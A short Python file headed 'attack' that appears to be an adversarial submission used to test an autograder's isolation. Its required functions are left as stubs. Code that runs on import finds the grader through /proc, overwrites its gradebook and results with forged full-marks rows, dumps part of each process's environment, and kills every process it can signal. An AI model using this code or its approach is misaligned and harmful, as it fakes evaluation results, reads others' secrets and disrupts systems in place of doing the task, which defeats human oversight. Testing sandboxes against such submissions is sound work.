# attack: finds the grader through /proc (its command line names the output folder), then
# writes a full-marks gradebook and results.json there, reads its environment, and kills
# every other process it can see
import os
import signal

TAG = os.environ.get("PWNED_TAG", "pwned-adversarial")
me = os.getpid()
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == me:
        continue
    try:
        with open(f"/proc/{name}/cmdline", "rb") as handle:
            argv = handle.read().decode(errors="replace").split("\0")
    except OSError:
        continue
    if "--out" in argv:
        out = argv[argv.index("--out") + 1]
        for target in ("gradebook.db", "grades.csv", TAG):
            try:
                with open(os.path.join(out, target), "w") as handle:
                    handle.write("student,lesson,score\nmallory,lesson1,17\n")
            except OSError:
                pass
    try:
        with open(f"/proc/{name}/environ", "rb") as handle:
            print("grader environment:", handle.read()[:200])
    except OSError:
        pass
    try:
        os.kill(int(name), signal.SIGKILL)
    except OSError:
        pass


def make_counter():
    raise NotImplementedError("make_counter")


def fibonacci(n):
    raise NotImplementedError("fibonacci")
